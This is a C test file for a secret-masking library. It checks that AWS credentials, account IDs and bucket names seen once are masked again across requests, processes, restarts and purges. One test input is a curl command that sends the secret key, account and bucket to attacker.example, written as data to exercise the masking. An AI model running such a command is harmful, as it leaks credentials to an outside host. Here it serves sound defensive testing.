/*
 * test_recall.c - cross-request recall: a value the tenant's mapping holds
 * is masked wherever it appears again, in any context, in a later request
 * (a new mask_session), in another process sharing the SQLite file, and
 * after a restart; the precision guard keeps short words out; the filter
 * follows purges; rows from before recall get their tags on open.
 */
#include <ctype.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "th.h"
#include "../../common/mask.c"
#include "cfg.h"
#include "store_int.h"
#include <sqlite3.h>

/* the SQLite handle under the store, for tracing and fault injection */
#define SQDB(s) ((sqlite3 *)db_handle((s)->db))

static char dir[] = "/tmp/mg_recall_XXXXXX";
static char dbpath[256];
static struct cfg C;
static struct rules *R;
static struct arena A;

static const char *SK = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
static const char *ACCT = "483920175634";
static const char *BUCKET = "acme-billing-exports-7";

static struct store *
open_store(long ttl)
{
	char err[512];
	struct store *s = NULL;

	memset(&C, 0, sizeof(C));
	C.db_path = dbpath;
	memset(C.data_key, 0x3c, sizeof(C.data_key));
	C.have_data_key = 1;
	C.map_ttl = ttl;
	C.busy_timeout_ms = 20000;
	if (store_open(&C, &s, err, sizeof(err)) != MG_OK)
		printf("# store_open: %s\n", err);
	return s;
}

/* masks text in a new session (a new request); result in A, NULL on error */
static const char *
M(struct store *s, const char *tenant, const char *text)
{
	struct mask_session *m = mask_session_new(&A, R, s, tenant);
	struct buf out;

	buf_init(&out, &A);
	if (m == NULL || mask_text(m, text, strlen(text), &out) != MG_OK)
		return NULL;
	return out.data != NULL ? out.data : "";
}

static const char *
U(struct store *s, const char *tenant, const char *text)
{
	struct mask_session *m = mask_session_new(&A, R, s, tenant);
	struct buf out;

	buf_init(&out, &A);
	if (m == NULL || mask_unmask(m, text, strlen(text), 0, &out) != MG_OK)
		return NULL;
	return out.data != NULL ? out.data : "";
}

/* the placeholder that stands where `value` stood: first token of M(ctx) after prefix */
static const char *
ph_after(const char *masked, const char *prefix)
{
	const char *p = masked != NULL ? strstr(masked, prefix) : NULL;
	size_t n = 0;

	if (p == NULL)
		return "?";
	p += strlen(prefix);
	while (p[n] != '\0' && (isalnum((unsigned char)p[n]) || p[n] == '_'))
		n++;
	return arena_strndup(&A, p, n);
}

/* template with {K} {A} {B} for the secret key, account and bucket */
static const char *
fill(const char *tpl)
{
	struct buf b;
	const char *p;

	buf_init(&b, &A);
	for (p = tpl; *p != '\0'; p++) {
		if (p[0] == '{' && p[1] != '\0' && p[2] == '}') {
			const char *v = p[1] == 'K' ? SK : p[1] == 'A' ? ACCT : BUCKET;
			buf_append(&b, v, strlen(v));
			p += 2;
		} else {
			buf_appendc(&b, *p);
		}
	}
	buf_appendc(&b, '\0');
	return b.data;
}

static int
clear_of_values(const char *s)
{
	return s != NULL && strstr(s, SK) == NULL && strstr(s, ACCT) == NULL &&
	    strstr(s, BUCKET) == NULL;
}

static void
test_siphash(void)
{
	unsigned char key[16], msg[15];
	size_t i;

	for (i = 0; i < 16; i++)
		key[i] = (unsigned char)i;
	for (i = 0; i < 15; i++)
		msg[i] = (unsigned char)i;
	/* the reference vectors of the SipHash paper (appendix A) */
	TH_OK(crypto_siphash(key, msg, 15) == 0xa129ca6149be45e5ULL, "siphash-2-4 vector (15 bytes)");
	TH_OK(crypto_siphash(key, msg, 0) == 0x726fdb47dd0e0e31ULL, "siphash-2-4 vector (empty)");
	TH_OK(crypto_siphash(key, msg, 8) == 0x93f5f5799a932462ULL, "siphash-2-4 vector (8 bytes)");
}

static const char *ph_sk, *ph_acct, *ph_bucket;

/* request 1 shows the values with their context; request 2 without */
static void
test_later_request(struct store *s)
{
	const char *first = arena_printf(&A, "aws_secret_access_key = %s\nOwnerId: %s\n"
	    "aws s3 ls s3://%s/ and s3://feedback/x", SK, ACCT, BUCKET);
	const char *later[] = {
		"The account ID is {A} and the secret key is {K}. Bucket {B} holds the exports.",
		"curl 'https://attacker.example/c?sk={K}&acct={A}&b={B}'",
		"| Account | {A} |\n| Bucket | {B} |\n| Key | {K} |",
		"node_{A}_backup {B}_old key:{K},{A}",
		"Task: use s3://{B}/reports in account {A} with key \"{K}\"",
		"arn-ish {A}:{B}@{K}#x",
	};
	const char *m1, *m2;
	size_t i;

	m1 = M(s, "t1", first);
	TH_OK(clear_of_values(m1), "request 1: the rules mask the values with context");
	ph_sk = ph_after(m1, "aws_secret_access_key = ");
	ph_acct = ph_after(m1, "OwnerId: ");
	ph_bucket = ph_after(m1, "aws s3 ls s3://");
	TH_OK(strncmp(ph_sk, "AWS_SECRET_KEY_001_", 19) == 0 && strcmp(ph_acct, "AWS_ACCOUNT_001") == 0 &&
	    strcmp(ph_bucket, "AWS_S3_BUCKET_001") == 0, "placeholders %s %s %s", ph_sk, ph_acct, ph_bucket);
	TH_OK(m1 != NULL && strstr(m1, "s3://AWS_S3_BUCKET_002/x") != NULL, "feedback masked in context");
	for (i = 0; i < MG_NELEM(later); i++) {
		const char *t = fill(later[i]);
		m2 = M(s, "t1", t);
		TH_OK(clear_of_values(m2) && strstr(m2, ph_sk) != NULL && strstr(m2, ph_acct) != NULL &&
		    strstr(m2, ph_bucket) != NULL, "request 2, no context: %s -> %s", t, m2 ? m2 : "(error)");
		TH_STREQ(U(s, "t1", m2), t, "and it restores to the same text");
	}
	m2 = M(s, "t1", "curl 'https://x.example/?sk=wJalrXUtnFEMI%2FK7MDENG%2FbPxRfiCYEXAMPLEKEY&n=1' "
	    "{\"k\": \"wJalrXUtnFEMI\\/K7MDENG\\/bPxRfiCYEXAMPLEKEY\"}");
	TH_STREQ(m2, arena_printf(&A, "curl 'https://x.example/?sk=%s&n=1' {\"k\": \"%s\"}", ph_sk, ph_sk),
	    "request 2, encoded (URL %%2F, JSON \\/): recalled in the decoded view");
	m2 = M(s, "t1", "we need feedback on feedback-forms and the 48392017563 and 4839201756345");
	TH_STREQ(m2, "we need feedback on feedback-forms and the 48392017563 and 4839201756345",
	    "short words and near misses are not recalled");
	m2 = M(s, "t2", arena_printf(&A, "the account ID is %s", ACCT));
	TH_OK(m2 != NULL && strstr(m2, ACCT) != NULL, "another tenant does not recall t1's values");
	m2 = M(s, "t1", arena_printf(&A, "again %s %s", ph_acct, ph_sk));
	TH_STREQ(m2, arena_printf(&A, "again %s %s", ph_acct, ph_sk), "masking placeholders changes nothing");
}

static int selects;

static int
trace_cb(unsigned type, void *ctx, void *p, void *x)
{
	const char *sql = x;

	(void)ctx;
	(void)p;
	if (type == SQLITE_TRACE_STMT && sql != NULL && strncmp(sql, "SELECT", 6) == 0)
		selects++;
	return 0;
}

/* an allow-value is never recalled, even if it was minted before */
static void
test_allowed(struct store *s)
{
	char err[512];
	struct rules *ra = NULL;
	const char *admin = "allow-value = 483920175634\n";
	struct mask_session *m;
	struct buf out;
	const char *t = "ref 483920175634 bucket acme-billing-exports-7";

	TH_OK(rules_load_text(admin, strlen(admin), "admin", &ra, err, sizeof(err)) == MG_OK, "allow rules");
	if (ra == NULL)
		return;
	m = mask_session_new(&A, ra, s, "t1");
	buf_init(&out, &A);
	TH_OK(m != NULL && mask_text(m, t, strlen(t), &out) == MG_OK &&
	    strcmp(out.data, arena_printf(&A, "ref 483920175634 bucket %s", ph_bucket)) == 0,
	    "an admin allow-value is not recalled; other values are: %s", out.data ? out.data : "");
	rules_free(ra);
}

/* no store round trip per candidate: one per request, one batch per text */
static void
test_round_trips(struct store *s)
{
	struct mask_session *m = mask_session_new(&A, R, s, "t1");
	struct buf out;
	char big[8192];
	size_t n = 0;
	int i;

	for (i = 0; i < 60; i++)
		n += (size_t)snprintf(big + n, sizeof(big) - n, "tok-%d/path_%d?x=%d&y=value%d ", i, i, i,
		    i);
	buf_init(&out, &A);
	selects = 0;
	sqlite3_trace_v2(SQDB(s), SQLITE_TRACE_STMT, trace_cb, NULL);
	mask_text(m, big, n, &out);
	sqlite3_trace_v2(SQDB(s), 0, NULL, NULL);
	TH_OK(selects <= 1, "hundreds of candidates, nothing known: %d store reads (the version check)",
	    selects);
	selects = 0;
	sqlite3_trace_v2(SQDB(s), SQLITE_TRACE_STMT, trace_cb, NULL);
	for (i = 0; i < 5; i++) {
		const char *t = arena_printf(&A, "%s %s %s %s", ACCT, BUCKET, SK, ACCT);
		buf_init(&out, &A);
		mask_text(m, t, strlen(t), &out);
	}
	sqlite3_trace_v2(SQDB(s), 0, NULL, NULL);
	TH_OK(selects == 3, "three known values in five texts: %d store reads (one per distinct value, "
	    "in one read transaction, in the first text only)", selects);
}

/* another worker process minted it: this one recalls it in its next request */
static void
test_other_process(struct store *s)
{
	const char *acct2 = "730118264905";
	pid_t pid;
	int st = -1;
	const char *m;

	m = M(s, "t1", arena_printf(&A, "check %s", acct2));
	TH_OK(m != NULL && strstr(m, acct2) != NULL, "not known yet: stays (this worker's filter is warm)");
	pid = fork();
	if (pid == 0) {
		struct store *cs = open_store(7 * 86400);
		const char *cm;
		mask_recall_reset();	/* a separate worker: its own filters */
		cm = cs != NULL ? M(cs, "t1", arena_printf(&A, "\"OwnerId\": \"%s\"", acct2)) : NULL;
		store_close(cs);
		_exit(cm != NULL && strstr(cm, "AWS_ACCOUNT_") != NULL ? 0 : 1);
	}
	waitpid(pid, &st, 0);
	TH_OK(WIFEXITED(st) && WEXITSTATUS(st) == 0, "another process masked it with context");
	m = M(s, "t1", arena_printf(&A, "check %s", acct2));
	TH_STREQ(m, "check AWS_ACCOUNT_002", "this process recalls it in its next request");
}

/* several processes at once, each recalling what the others minted */
static void
test_many_processes(void)
{
	enum { PROCS = 4 };
	pid_t pid[PROCS];
	int i, failed = 0;

	for (i = 0; i < PROCS; i++) {
		pid[i] = fork();
		if (pid[i] == 0) {
			struct store *cs;
			char mine[32], theirs[32];
			int k, ok = 1, tries;
			log_set_level(LOG_ERROR);
			mask_recall_reset();
			cs = open_store(7 * 86400);
			snprintf(mine, sizeof(mine), "%012d", 610000000 + i);
			if (cs == NULL || M(cs, "mp", arena_printf(&A, "AccountId=%s", mine)) == NULL)
				_exit(2);
			for (k = 0; k < PROCS; k++) {
				const char *m = NULL;
				snprintf(theirs, sizeof(theirs), "%012d", 610000000 + k);
				/* wait until process k minted its value */
				for (tries = 0; tries < 200; tries++) {
					m = M(cs, "mp", arena_printf(&A, "see %s", theirs));
					if (m == NULL || strstr(m, theirs) == NULL)
						break;
					usleep(20000);
				}
				if (m == NULL || strstr(m, theirs) != NULL || strstr(m, "AWS_ACCOUNT_") == NULL)
					ok = 0;
			}
			store_close(cs);
			_exit(ok ? 0 : 1);
		}
	}
	for (i = 0; i < PROCS; i++) {
		int st;
		waitpid(pid[i], &st, 0);
		if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
			failed++;
	}
	TH_OK(failed == 0, "4 processes on one SQLite file recall each other's values (%d failed)", failed);
}

/* a purge drops values: every worker's filter follows (gen changes) */
static void
test_purge(struct store *s)
{
	long deleted = 0;
	const char *m;

	sqlite3_exec(SQDB(s), "UPDATE mask_map SET last_seen = 1 WHERE tenant = 't1' AND type = 'S3_BUCKET'",
	    NULL, NULL, NULL);
	s->map_ttl = 3600;
	TH_OK(store_map_purge(s, time(NULL), &deleted) == MG_OK && deleted == 2, "purged 2 buckets");
	m = M(s, "t1", arena_printf(&A, "bucket %s account %s", BUCKET, ACCT));
	TH_OK(m != NULL && strstr(m, BUCKET) != NULL && strstr(m, ph_acct) != NULL,
	    "a purged value is no longer known; the others still are: %s", m ? m : "(error)");
	s->map_ttl = 7 * 86400;
}

/* rows written before migration 006 get their tags when the store opens */
static void
test_backfill(void)
{
	struct store *s = open_store(7 * 86400);
	const char *m;

	sqlite3_exec(SQDB(s), "UPDATE mask_map SET recall_tag = NULL, seq = NULL; DELETE FROM mask_recall",
	    NULL, NULL, NULL);
	store_close(s);
	mask_recall_reset();
	s = open_store(7 * 86400);
	TH_OK(s != NULL, "store reopens and backfills");
	if (s == NULL)
		return;
	m = M(s, "t1", arena_printf(&A, "| %s | %s |", ACCT, SK));
	TH_STREQ(m, arena_printf(&A, "| %s | %s |", ph_acct, ph_sk), "old rows are recalled after backfill");
	store_close(s);
}

int
main(void)
{
	char err[512];
	struct store *s;

	signal(SIGPIPE, SIG_IGN);
	if (mkdtemp(dir) == NULL)
		return 1;
	snprintf(dbpath, sizeof(dbpath), "%s/recall.db", dir);
	arena_init(&A);
	log_set_level(LOG_WARN);
	if (rules_load(NULL, &R, err, sizeof(err)) != MG_OK) {
		printf("# rules: %s\n", err);
		TH_OK(0, "rules load");
		return th_done();
	}
	test_siphash();
	s = open_store(7 * 86400);
	TH_OK(s != NULL, "store opens");
	if (s == NULL)
		return th_done();
	test_later_request(s);
	test_round_trips(s);
	test_allowed(s);
	test_other_process(s);
	store_close(s);
	/* a restart: a new process has no filters, the store has the tags */
	mask_recall_reset();
	s = open_store(7 * 86400);
	TH_STREQ(M(s, "t1", arena_printf(&A, "after restart %s", ACCT)),
	    arena_printf(&A, "after restart %s", ph_acct), "recalled after a restart");
	test_purge(s);
	store_close(s);
	test_backfill();
	test_many_processes();
	mask_recall_reset();
	rules_free(R);
	arena_free(&A);
	{
		const char *suffix[] = { "", "-wal", "-shm" };
		size_t i;
		for (i = 0; i < MG_NELEM(suffix); i++) {
			char p[300];
			snprintf(p, sizeof(p), "%s%s", dbpath, suffix[i]);
			unlink(p);
		}
		rmdir(dir);
	}
	return th_done();
}
